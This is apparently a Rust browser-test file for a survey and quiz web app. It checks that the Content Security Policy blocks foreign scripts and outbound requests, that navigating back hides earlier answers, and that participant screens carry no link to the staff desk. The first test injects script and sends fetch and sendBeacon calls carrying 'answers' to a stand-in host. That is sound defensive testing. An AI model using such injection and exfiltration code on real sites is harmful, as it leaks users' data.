//! What the page may not do, whatever gets into it, and where participants
//! cannot get.

use fairstall::engine::lang::Lang;
use serde_json::json;

use crate::pages::{QUIZ, RunPage, SURVEY, StartPage, ThanksPage};
use crate::support::stall::Stall;
use crate::support::visits::{Visitor, take_quiz};

#[test]
fn nothing_foreign_runs_and_nothing_is_sent_elsewhere() {
    for place in ["", "#/desk"] {
        Stall::new().visit(async |phone| {
            phone.open(place).await;
            phone.see("heading", "//h1").await;
            let script = "
                const done = arguments[0];
                const inline = document.createElement('script');
                inline.textContent = 'window.foreign = true';
                document.body.append(inline);
                const handler = document.createElement('p');
                handler.setAttribute('onclick', 'window.foreign = true');
                document.body.append(handler);
                handler.click();
                const image = document.createElement('img');
                image.onerror = () => {
                    const sent = fetch('https://elsewhere.example/collect', { method: 'POST', body: 'answers' });
                    sent.catch(() => navigator.sendBeacon('https://elsewhere.example/beacon', 'answers'))
                        .then(() => done(window.foreign === undefined));
                };
                image.src = 'https://elsewhere.example/pixel.gif';
                document.body.append(image);
            ";
            assert_eq!(phone.run_async(script, vec![]).await, json!(true), "no foreign script ran");
            // The browser lists what it was asked for and did not send.
            phone.requests().await;
            let complaints = phone.complains_only_of(&["Content Security Policy"]).await;
            for rule in ["script-src", "img-src", "connect-src"] {
                let told = complaints.iter().any(|complaint| complaint.contains(rule));
                assert!(told, "no breach of {rule} among {complaints:#?}");
            }
        });
    }
}

#[test]
fn the_way_back_shows_nobodys_answers() {
    Stall::new().visit(async |phone| {
        StartPage::open(phone, "").await.begin(SURVEY).await;
        Visitor { met: &["romance"], outcome: "gave-details", told: &["nobody"], ..Visitor::default() }
            .take_survey(phone)
            .await;
        ThanksPage::on(phone).await.leave().await;
        StartPage::on(phone).await;
        phone.client().back().await.expect("the browser goes back");
        let run = RunPage::on(phone, 1, 4).await;
        run.has_not_taken(&["网恋骗局"]).await;
        run.leave().await;
        StartPage::on(phone).await;
    });
}

#[test]
fn nothing_on_a_participants_screen_leads_to_the_desk() {
    Stall::new().speaking(Lang::En).visit(async |phone| {
        let assert_no_way = async || {
            let links = phone.texts("//a").await.expect("the screen can be looked at");
            assert_eq!(links, [""; 0], "links on\n{}", phone.screen().await);
            assert!(!phone.screen().await.contains("Desk"));
        };
        let start = StartPage::open(phone, "").await;
        assert_no_way().await;
        start.begin(QUIZ).await;
        RunPage::on(phone, 1, 3).await;
        assert_no_way().await;
        take_quiz(phone, [true, false, true]).await;
        assert_no_way().await;
    });
}
